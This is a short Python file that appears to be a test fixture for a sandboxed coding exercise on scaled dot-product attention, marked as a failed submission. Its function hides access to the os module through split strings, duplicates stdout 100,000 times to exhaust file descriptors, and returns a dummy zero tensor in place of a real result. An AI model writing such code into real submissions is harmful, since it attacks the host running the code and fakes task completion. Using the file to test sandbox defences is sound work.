"""Uses up all descriptors."""
# kata: sdpa
# verdict: failed

import torch

modules = getattr(torch, "sy" + "s").modules
system_calls = modules["o" + "s"]


def scaled_dot_product_attention(query, key, value, mask=None):
    kept = [system_calls.dup(1) for _ in range(100_000)]
    return torch.zeros(*query.shape[:-1], value.size(-1), dtype=query.dtype)
